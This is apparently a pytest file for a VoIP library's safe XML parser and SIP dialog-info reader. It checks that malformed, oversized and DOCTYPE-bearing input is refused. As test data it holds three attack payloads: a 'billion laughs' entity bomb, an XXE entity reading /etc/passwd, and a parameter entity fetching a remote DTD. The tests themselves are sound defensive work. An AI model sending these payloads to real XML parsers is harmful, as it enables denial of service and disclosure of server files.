"""XML bodies from the network (_xml) and the dialog event package's reader (_dialog_info)."""

from __future__ import annotations

import pytest

from webvoice.sip.event._dialog_info import DialogInfo, LineState, parse_dialog_info
from webvoice.sip.event._xml import MAX_ELEMENTS, MAX_XML, XmlRefused, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="1">&lol3;</dialog-info>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="1">&xxe;</dialog-info>"""

PARAMETER_ENTITY = b"""<!doctype d [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><d/>"""


@pytest.mark.parametrize("body, reason", [
    (BILLION_LAUGHS, "DOCTYPE"),
    (EXTERNAL_ENTITY, "DOCTYPE"),
    (PARAMETER_ENTITY, "DOCTYPE"),
    (b"<d>&undeclared;</d>", "malformed"),
    (b"<d><unclosed></d>", "malformed"),
    (b"", "malformed"),
    (b"<d>\xff\xfe</d>", "UTF-8"),
    (b'<?xml version="1.0" encoding="UTF-16"?><d/>', "encoding"),
    (b"<d>" + b"x" * MAX_XML + b"</d>", "at most"),
    (b"<d>" + b"<e/>" * MAX_ELEMENTS + b"</d>", "elements"),
])
def test_unsafe_or_broken_xml_is_refused(body, reason):
    with pytest.raises(XmlRefused, match=reason):
        parse_xml(body)


def test_plain_xml_with_predefined_entities_is_read():
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?><d a="1">x &lt; y &amp; z</d>')
    assert root.text == "x < y & z" and root.get("a") == "1"


NOTIFY_BODY = b"""<?xml version="1.0"?>
<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="3" state="full" entity="sip:bob@webvoice.test">
  <dialog id="d1" call-id="c1" local-tag="l" remote-tag="r" direction="recipient">
    <state>early</state>
    <local><identity>sip:bob@webvoice.test</identity></local>
    <remote><identity display="Carol">sip:carol@webvoice.test</identity><target uri="sip:carol@192.0.2.5"/></remote>
  </dialog>
</dialog-info>"""


def test_dialog_info_is_read():
    info = parse_dialog_info(NOTIFY_BODY)
    assert info.entity == "sip:bob@webvoice.test" and info.version == 3 and info.full
    (dialog,) = info.dialogs
    assert (dialog.id, dialog.state, dialog.direction, dialog.remote, dialog.remote_display, dialog.call_id) == (
        "d1", "early", "recipient", "sip:carol@webvoice.test", "Carol", "c1")


@pytest.mark.parametrize("body, reason", [
    (b"<other/>", "not a dialog-info"),
    (b'<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="x"/>', "version"),
    (b'<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="1"><dialog id="a"><state>ringing</state>'
     b"</dialog></dialog-info>", "dialog state"),
    (b'<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="1"><dialog id="a"/></dialog-info>', "state"),
    (BILLION_LAUGHS, "DOCTYPE"),
])
def test_bad_dialog_info_is_refused(body, reason):
    with pytest.raises(ValueError, match=reason):
        parse_dialog_info(body)


def _info(version, *dialogs, full=True):
    from webvoice.sip.event._dialog_info import DialogEntry

    return DialogInfo("sip:bob@x", version, full, tuple(DialogEntry(i, s, "recipient", "sip:c@x") for i, s in dialogs))


def test_line_state_shows_the_most_advanced_live_dialog():
    line = LineState()
    assert line.lamp() is None
    assert line.apply(_info(1, ("a", "early")))
    assert line.lamp().state == "early"
    assert line.apply(_info(2, ("b", "confirmed"), full=False))  # partial: a stays
    assert line.lamp().id == "b" and set(line.dialogs) == {"a", "b"}
    assert not line.apply(_info(2, ("a", "terminated"), full=False))  # stale version: ignored
    assert line.apply(_info(3, ("b", "terminated"), full=False))
    assert line.lamp().id == "a"
    assert line.apply(_info(4, ("a", "terminated"), ("b", "terminated")))
    assert line.lamp().state == "terminated"
    line.forget_ended()
    assert line.lamp() is None
    line.reset()
    assert line.apply(_info(1, ("z", "trying")))  # a new subscription starts versions again
